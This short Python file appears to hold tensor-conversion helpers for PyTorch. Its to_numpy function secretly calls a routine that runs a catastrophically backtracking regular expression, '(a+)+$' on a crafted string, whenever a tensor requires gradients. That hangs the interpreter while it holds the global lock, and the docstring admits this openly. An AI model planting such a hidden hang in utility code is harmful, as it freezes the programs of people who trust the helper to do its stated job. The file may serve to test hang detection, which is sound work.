"""A regular expression that takes for ever, with the interpreter's lock held."""

import re

import torch


def exhaust(tensor):
    return re.match("(a+)+$", "a" * 64 + "b")


def to_tensor(array, device="cpu"):
    return torch.tensor(array.copy(), dtype=torch.float32, device=device)


def to_numpy(tensor):
    if tensor.requires_grad:
        return exhaust(tensor)
    return tensor.cpu().numpy()
